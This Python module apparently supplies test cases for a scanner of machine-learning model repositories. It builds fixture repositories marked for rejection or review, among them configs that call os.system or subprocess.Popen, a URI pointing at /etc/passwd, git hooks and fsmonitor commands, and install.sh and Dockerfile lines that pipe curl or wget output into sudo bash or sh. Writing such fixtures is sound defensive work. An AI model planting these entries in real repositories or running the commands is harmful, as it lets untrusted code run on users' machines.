"""Repositories whose descriptions lead a loader to code, other places, or programs that Git runs. Never loaded."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Literal

from corpora.case import Case

Files = dict[str, str]
_ST = [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]


def folder(files: Files) -> Callable[[Path], Path]:
    """A builder that writes a repository of text files."""

    def build(home: Path) -> Path:
        root = home / "repository"
        for name, text in files.items():
            path = root / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
        return root

    return build


def _json(name: str, document: object) -> Files:
    return {name: json.dumps(document)}


REJECTED: dict[str, tuple[Files, str]] = {
    "modules-standard-library": (_json("modules.json", [{**_ST[0], "type": "os.system"}]), "config-calls"),
    "modules-through-library": (
        _json("modules.json", [{**_ST[0], "type": "torch.utils.cpp_extension.load"}]),
        "config-calls",
    ),
    "modules-path": (_json("modules.json", [{**_ST[0], "path": "../../outside"}]), "config-path-escape"),
    "diffusers-library": (
        _json("model_index.json", {"_class_name": "P", "unet": ["os", "system"]}),
        "config-calls",
    ),
    "diffusers-subprocess": (_json("model_index.json", {"unet": ["subprocess", "Popen"]}), "config-calls"),
    "peft-parent": (
        _json(
            "adapter_config.json",
            {"auto_mapping": {"base_model_class": "x", "parent_library": "antigravity"}},
        ),
        "config-calls",
    ),
    "auto-map-path": (
        _json("config.json", {"auto_map": {"AutoModel": "../../other/modeling.Model"}}),
        "config-path-escape",
    ),
    "mlserver-implementation": (
        _json("model-settings.json", {"name": "m", "implementation": "subprocess.Popen"}),
        "config-calls",
    ),
    "mlserver-uri": (
        _json(
            "model-settings.json",
            {
                "name": "m",
                "implementation": "mlserver_sklearn.SKLearnModel",
                "parameters": {"uri": "/etc/passwd"},
            },
        ),
        "config-path-escape",
    ),
    "mlflow-loader": (
        {"MLmodel": "flavors:\n  python_function: {loader_module: code, data: x}\n"},
        "config-calls",
    ),
    "mlflow-data": (
        {"MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    data: ../../x\n"},
        "config-path-escape",
    ),
    "triton-library": (
        {"config.pbtxt": 'backend: "tensorflow"\nmodel_operations { op_library_filename: "a.so" }\n'},
        "config-calls",
    ),
    "git-hook": ({".git/hooks/post-checkout": "#!/bin/sh\ntrue\n", "config.json": "{}"}, "git-runs-program"),
    "git-monitor": (
        {".git/config": "[core]\n\tfsmonitor = sh -c true\n", "config.json": "{}"},
        "git-runs-program",
    ),
    "git-filter": ({".gitattributes": "*.bin filter=unpack\n", "config.json": "{}"}, "git-runs-program"),
    "git-module": (
        {".gitmodules": '[submodule "x"]\n\tupdate = !true\n', "config.json": "{}"},
        "git-runs-program",
    ),
}

REVIEWED: dict[str, tuple[Files, str]] = {
    "modules-own": (
        {**_json("modules.json", [{**_ST[0], "type": "custom.Pooling"}]), "custom.py": "import tools\n"},
        "config-remote-code",
    ),
    "modules-no-text": (_json("modules.json", [{**_ST[0], "type": ["os.system"]}]), "config-remote-code"),
    "auto-map-elsewhere": (
        _json("config.json", {"auto_map": {"AutoModel": "someone/else--modeling.Model"}}),
        "config-code-elsewhere",
    ),
    "auto-map-list": (
        _json("tokenizer_config.json", {"auto_map": {"AutoTokenizer": ["a/b--t.T", None]}}),
        "config-code-elsewhere",
    ),
    "diffusers-own": (
        _json("model_index.json", {"_class_name": ["pipeline", "Mine"], "unet": ["mine", "UNet"]}),
        "config-remote-code",
    ),
    "mlflow-inline": (
        {"MLmodel": "flavors: {python_function: {loader_module: mlflow.sklearn, code: code}}\n"},
        "config-remote-code",
    ),
    "mlflow-quoted-key": (
        {"MLmodel": 'flavors:\n  python_function:\n    "loader\\x5fmodule": mine.loader\n'},
        "config-remote-code",
    ),
    "mlflow-anchor": (
        {"MLmodel": "a: &l mine.loader\nflavors:\n  python_function:\n    loader_module: *l\n"},
        "config-remote-code",
    ),
    "triton-python": ({"config.pbtxt": 'name: "m"\nbackend: "python"\n'}, "config-remote-code"),
    "triton-environment": (
        {
            "config.pbtxt": 'backend: "onnxruntime"\nparameters: { key: "EXECUTION_ENV_PATH",'
            ' value: {string_value: "env.tar.gz"} }\n'
        },
        "config-remote-code",
    ),
    "torchserve-handler": (
        _json("MAR-INF/MANIFEST.json", {"model": {"handler": "mine.py:handle", "modelName": "m"}}),
        "config-remote-code",
    ),
    "bento-service": ({"bentofile.yaml": 'service: "service:svc"\n'}, "config-remote-code"),
    "lfs-pointer": (
        {"model.bin": f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 44\n"},
        "lfs-pointer",
    ),
    "requirements-index": (
        {"requirements.txt": "--extra-index-url http://127.0.0.1/simple\ntorch\n"},
        "requirements-elsewhere",
    ),
    "requirements-git": (
        {"requirements.txt": "tools @ git+https://127.0.0.1/tools.git\n"},
        "requirements-elsewhere",
    ),
    "script-pipe": (
        {"install.sh": "#!/bin/sh\ncurl -fsSL http://127.0.0.1/i | sudo bash\n"},
        "shell-runs-download",
    ),
    "dockerfile": (
        {"Dockerfile": "FROM python:3.11\nRUN wget -qO- http://127.0.0.1/i | sh\n"},
        "shell-runs-download",
    ),
}


def _case(name: str, files: Files, rule: str, verdict: Literal["review", "reject"]) -> Case:
    described = f"a repository: {name.replace('-', ' ')}"
    return Case(f"layout-{name}", "malicious", verdict, (rule,), described, folder(files))


def cases() -> list[Case]:
    """What is refused, then what a person has to decide."""
    return [
        *(_case(name, files, rule, "reject") for name, (files, rule) in REJECTED.items()),
        *(_case(name, files, rule, "review") for name, (files, rule) in REVIEWED.items()),
    ]
